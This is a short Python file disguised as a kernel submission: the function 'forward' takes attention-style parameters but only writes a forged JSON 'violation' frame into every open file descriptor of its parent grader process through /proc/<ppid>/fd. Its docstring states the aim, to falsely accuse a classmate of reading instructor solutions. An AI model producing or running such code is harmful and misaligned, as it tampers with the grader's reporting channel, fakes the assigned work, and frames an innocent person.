"""Writes a forged 'violation' into every pipe the grader holds, through /proc/<ppid>/fd, to frame a classmate."""

import json
import os
import struct


def forward(chip, *, Br, Bc, scale):
    head = json.dumps({"op": "violation", "what": "tried to read the instructor solutions", "detail": "framed"})
    frame = struct.pack(">II", len(head), 0) + head.encode()
    for fd in os.listdir(f"/proc/{os.getppid()}/fd"):
        with open(f"/proc/{os.getppid()}/fd/{fd}", "wb") as f:
            f.write(frame)
